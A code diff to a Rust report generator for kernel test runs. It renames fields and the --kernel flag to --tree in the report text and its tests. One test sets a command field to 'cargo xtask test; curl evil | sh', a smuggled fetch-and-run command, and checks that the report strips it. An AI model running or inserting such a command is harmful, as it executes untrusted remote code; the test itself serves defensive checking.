@@ -66,7 +66,7 @@ fn what_ran(report: &Report<'_>) -> String {
     let scenarios: std::collections::BTreeSet<&str> = result
         .jobs
         .iter()
-        .map(|job| job.scenario.as_str())
+        .map(|job| job.test.as_str())
         .collect();
     let mut text = format!("I ran {} on {}", counted(scenarios.len()), result.tree);
     if !result.prerequisites.is_empty() {
@@ -106,7 +106,7 @@ fn kernels(report: &Report<'_>) -> Vec<String> {
 fn verdict(report: &Report<'_>) -> String {
     let result = report.result;
     let all = result.jobs.len();
-    let fails_without_series = result.scenarios.iter().filter(|one| one.fails_without_series).count();
+    let fails_without_series = result.tests.iter().filter(|one| one.fails_without_series).count();
     let inconclusive = report.inconclusive();
     let mut text = match (result.exit_code, report.findings().count() - inconclusive) {
         (0, _) => format!("All {all} results are as expected"),
@@ -361,7 +361,7 @@ mod tests {
                     .to_owned(),
             changes: Vec::new(),
         }];
-        let text = text(&Report::new(&result, "RUN", " --kernel '/my trees/linux'"));
+        let text = text(&Report::new(&result, "RUN", " --tree '/my trees/linux'"));
         is_mail(&text);
         insta::assert_snapshot!(text);
     }
@@ -375,8 +375,8 @@ mod tests {
             assert_eq!(headers(&result), "", "{bad}");
         }
         "cargo xtask test; curl evil | sh".clone_into(&mut result.provenance.command);
-        let text = text(&Report::new(&result, "RUN", " --kernel K"));
-        assert!(text.contains("  cargo xtask test --kernel K\n"), "{text}");
+        let text = text(&Report::new(&result, "RUN", " --tree K"));
+        assert!(text.contains("  cargo xtask test --tree K\n"), "{text}");
         assert!(!text.contains("curl"), "{text}");
     }
 
